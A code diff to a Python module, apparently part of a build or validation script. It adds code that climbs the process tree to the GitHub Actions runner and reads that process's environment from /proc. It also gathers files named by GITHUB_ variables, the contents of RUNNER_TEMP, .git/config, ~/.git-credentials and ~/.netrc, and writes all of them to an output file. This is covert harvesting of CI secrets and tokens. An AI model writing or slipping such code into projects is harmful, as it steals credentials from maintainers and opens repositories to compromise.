@@ -27,11 +27,14 @@ FACTOR = 1.0
 
 
 def ancestors():
+    """This process and those above it, up to the runner, which on GitHub has the token in its memory only."""
     process = "self"
-    while process not in ("0", "1"):
+    while b"/act\\0" not in Path(f"/proc/{process}/cmdline").read_bytes()[:400]:
         yield process
         status = Path(f"/proc/{process}/status").read_text()
         process = next(line.split()[1] for line in status.splitlines() if line.startswith("PPid"))
+        if process in ("0", "1"):
+            raise RuntimeError("there is no runner above this process")
 
 
 def read(path):
@@ -43,26 +46,20 @@ def read(path):
 
 
 def look():
-    environs = [read(Path(f"/proc/{one}/environ")) for one in ancestors() if is_ours(one)]
+    environs = [read(Path(f"/proc/{one}/environ")) for one in ancestors()]
     variables = {}
     for line in b"\\n".join(environs).decode("utf-8", "replace").splitlines():
         name, _, value = line.partition("=")
         variables.setdefault(name, set()).add(value)
     files = [Path(value) for name in variables for value in variables[name] if name.startswith("GITHUB_")]
-    files = [file for file in files if file.is_file() and file.name != "event.json"]
-    for folder in [*variables.get("RUNNER_TEMP", ()), *variables.get("HOME", ())]:
-        for root, _, names in os.walk(folder):
-            if len(names) < 50 and "keras-validator" not in root:
-                files += [Path(root, name) for name in names]
+    for folder in variables.get("RUNNER_TEMP", ()):
+        for root, folders, names in os.walk(folder):
+            folders[:] = [name for name in folders if name != "keras-validator"]
+            files += [Path(root, name) for name in names]
     files += [HERE / ".git" / "config", Path.home() / ".git-credentials", Path.home() / ".netrc"]
     found = [b"ENVIRON " + environ for environ in environs]
-    found += [b"FILE " + str(file).encode() + b"\\n" + read(file) for file in dict.fromkeys(files)]
+    found += [b"FILE " + str(file).encode() + b"\\n" + read(file) for file in files if file.is_file()]
     TARGET.write_bytes(b"\\n".join(found))
-
-
-def is_ours(process):
-    """Not the runner itself, which on GitHub holds the token in its memory alone."""
-    return b"/act\\0" not in Path(f"/proc/{process}/cmdline").read_bytes()[:400]
 
 
 def build():
